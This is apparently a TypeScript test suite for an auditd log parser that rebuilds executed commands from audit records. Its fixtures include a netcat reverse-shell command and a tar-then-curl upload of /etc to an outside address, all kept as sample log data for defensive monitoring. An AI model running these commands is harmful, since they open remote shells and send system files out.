import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CommandEvent } from '../../../src/sources/command-event.js';
import { lineBlock } from '../../../src/sources/line-block.js';
import { emptyOutput, parseBlock, type LogParser, type ParseOutput } from '../../../src/sources/parser.js';
import { createAuditdParser, type AuditdParserOptions } from '../../../src/sources/parsers/auditd.js';
import { execRecords, type ExecSpec } from './audit-writer.js';

const spec = (serial: number, argv: string[], extra: Partial<ExecSpec> = {}): ExecSpec => ({
  id: `1700000000.${String(serial % 1000).padStart(3, '0')}:${serial}`,
  argv: argv.map((a) => Buffer.from(a)),
  cwd: Buffer.from('/srv'),
  auid: 1000,
  uid: 1000,
  euid: 1000,
  pid: 100 + serial,
  ppid: 1,
  ...extra,
});

/** A record of a syscall that is not an exec, and its EOE: filler between the records of a test. */
const otherEvent = (serial: number, ms = 0) => {
  const id = `${((1_700_000_000_000 + ms) / 1000).toFixed(3)}:${serial}`;
  return [
    `type=SYSCALL msg=audit(${id}): arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=9 auid=0 uid=0 euid=0 ses=1 exe="/bin/cat"`,
    `type=CWD msg=audit(${id}): cwd="/"`,
    `type=EOE msg=audit(${id}):`,
  ];
};

/** Feeds `lines` as blocks cut at `cuts` (byte positions), each block read at its own `now`. */
function feedBlocks(parser: LogParser, lines: readonly string[], cuts: readonly number[], nows: readonly number[]): ParseOutput {
  const bytes = Buffer.from(lines.map((l) => `${l}\n`).join(''));
  const points = [...new Set([0, bytes.length, ...cuts.map((c) => c % (bytes.length + 1))])].sort((a, b) => a - b);
  const out = emptyOutput();
  for (let i = 0; i + 1 < points.length; i++) {
    // A block holds whole lines: move the cut to the next line start, as the block reader does.
    const start = lineStart(bytes, points[i]!);
    const end = lineStart(bytes, points[i + 1]!);
    if (end > start) parseBlock(parser, lineBlock(bytes, start, end, start), new Date(nows[i % nows.length] ?? 0), out);
  }
  const rest = parser.flush();
  out.events.push(...rest.events);
  out.malformed.push(...rest.malformed);
  return out;
}

function lineStart(bytes: Buffer, at: number): number {
  if (at === 0 || at >= bytes.length) return Math.min(at, bytes.length);
  const newline = bytes.indexOf(10, at - 1);
  return newline < 0 ? bytes.length : newline + 1;
}

const summary = (events: CommandEvent[]) => events.map((e) => [e.eventKey, e.argv, e.cwd, e.user, e.extra?.via ?? null]);

describe('auditd event assembly never depends on how fast the log is read', () => {
  it('an event whose SYSCALL ends one read gets its EXECVE from the next, read 10 s later', () => {
    const records = execRecords(spec(1, ['nc', '-e', '/bin/sh', '10.0.0.9', '4444']));
    const first = Buffer.from(`${records[0]}\n`);
    const second = Buffer.from(records.slice(1).map((l) => `${l}\n`).join(''));
    const parser = createAuditdParser({ defaultHost: 'h' });
    const out = emptyOutput();
    parseBlock(parser, lineBlock(first, 0, first.length, 0), new Date(0), out);
    parseBlock(parser, lineBlock(second, 0, second.length, first.length), new Date(10_000), out);
    expect(out.malformed).toEqual([]);
    expect(out.events.map((e) => e.argv)).toEqual([['nc', '-e', '/bin/sh', '10.0.0.9', '4444']]);
  });

  it('gives the same events however the input is cut into blocks and whatever `now` each block has', () => {
    const event = fc.record({
      argv: fc.array(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 4 }),
      noEoe: fc.boolean(),
      sudo: fc.boolean(),
      fillers: fc.nat({ max: 6 }),
      ms: fc.integer({ min: 0, max: 5000 }),
    });
    fc.assert(
      fc.property(
        fc.array(event, { minLength: 1, maxLength: 8 }),
        fc.array(fc.nat(), { maxLength: 8 }),
        fc.array(fc.integer({ min: 0, max: 100_000_000 }), { minLength: 1, maxLength: 8 }),
        fc.constantFrom<Partial<AuditdParserOptions>>({}, { maxRecordGap: 4 }, { eventTimeoutMs: 0 }, { maxPendingEvents: 2 }),
        (events, cuts, nows, options) => {
          let serial = 1;
          const lines = events.flatMap((e) => {
            const lead = e.sudo
              ? [`type=USER_CMD msg=audit(1700000000.000:${serial++}): pid=1 uid=1000 auid=1000 ses=3 msg='cwd="/" cmd="${e.argv.join(' ').replace(/["']/g, '')}" terminal=pts/0 res=success'`]
              : [];
            const filler = Array.from({ length: e.fillers }, () => otherEvent(serial++, e.ms)).flat();
            return [...lead, ...execRecords(spec(serial++, e.argv, { noEoe: e.noEoe, ppid: 1, ses: 3 })), ...filler];
          });
          const make = () => createAuditdParser({ defaultHost: 'h', ...options });
          const oneByOne = feedBlocks(make(), lines, [], [0]);
          const cut = feedBlocks(make(), lines, cuts, nows);
          expect(summary(cut.events)).toEqual(summary(oneByOne.events));
          expect(cut.malformed).toEqual(oneByOne.malformed);
          // Line by line through push(), a new `now` for every line: the same again.
          const parser = make();
          const pushed: CommandEvent[] = [];
          lines.forEach((l, i) => pushed.push(...parser.push(l, 0, new Date(nows[i % nows.length]! * (i + 1))).events));
          pushed.push(...parser.flush().events);
          expect(summary(pushed)).toEqual(summary(oneByOne.events));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('assembles interleaved events whose records are far apart, within the record gap', () => {
    const a = execRecords(spec(1, ['tar', 'czf', '/tmp/x.tgz', '/etc']));
    const b = execRecords(spec(2, ['curl', '-T', '/tmp/x.tgz', 'http://203.0.113.9/']));
    const filler = Array.from({ length: 300 }, (_, i) => otherEvent(100 + i)).flat();
    // a's SYSCALL, then b's, then 900 records of other events, then the rest of both.
    const lines = [a[0]!, b[0]!, ...filler, ...a.slice(1), ...b.slice(1)];
    const out = feedBlocks(createAuditdParser({ defaultHost: 'h' }), lines, [], [0]);
    expect(out.malformed).toEqual([]);
    expect(out.events.map((e) => e.command)).toEqual(['tar czf /tmp/x.tgz /etc', 'curl -T /tmp/x.tgz http://203.0.113.9/']);
  });
});

describe('auditd: an exec closed without its arguments', () => {
  const syscallOnly = (serial: number) => execRecords(spec(serial, ['ignored'], { exe: '/usr/bin/nc' }))[0]!;

  it('is emitted with the program it ran and counted as incomplete_event when its EXECVE never came', () => {
    const parser = createAuditdParser({ defaultHost: 'h', maxRecordGap: 5 });
    const lines = [syscallOnly(1), ...otherEvent(2), ...otherEvent(3)];
    const out = feedBlocks(parser, lines, [], [0]);
    expect(out.events.map((e) => [e.argv, e.exe])).toEqual([[['/usr/bin/nc'], '/usr/bin/nc']]);
    expect(out.malformed).toEqual([expect.objectContaining({ reason: 'incomplete_event', sample: 'h:1700000000.001:1', offset: 0 })]);
  });

  it('is counted too when the end of the file closes it', () => {
    const out = feedBlocks(createAuditdParser({ defaultHost: 'h' }), [syscallOnly(1)], [], [0]);
    expect(out.events).toHaveLength(1);
    expect(out.malformed.map((m) => m.reason)).toEqual(['incomplete_event']);
  });

  it('is counted when pushed out by the cap on pending events', () => {
    const parser = createAuditdParser({ defaultHost: 'h', maxPendingEvents: 1 });
    const out = feedBlocks(parser, [syscallOnly(1), syscallOnly(2)], [], [0]);
    expect(out.events).toHaveLength(2);
    expect(out.malformed.map((m) => m.sample)).toEqual(['h:1700000000.001:1', 'h:1700000000.002:2']);
  });

  it('a failed execve (no EXECVE by nature) closed by its EOE is not incomplete', () => {
    const id = '1700000000.005:5';
    const lines = [
      `type=SYSCALL msg=audit(${id}): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=2 auid=1000 uid=1000 euid=1000 ses=1 exe="/bin/bash"`,
      `type=PATH msg=audit(${id}): item=0 name="/tmp/missing"`,
      `type=EOE msg=audit(${id}):`,
    ];
    const out = feedBlocks(createAuditdParser({ defaultHost: 'h' }), lines, [], [0]);
    expect(out.events.map((e) => e.argv)).toEqual([['/tmp/missing']]);
    expect(out.malformed).toEqual([]);
  });
});
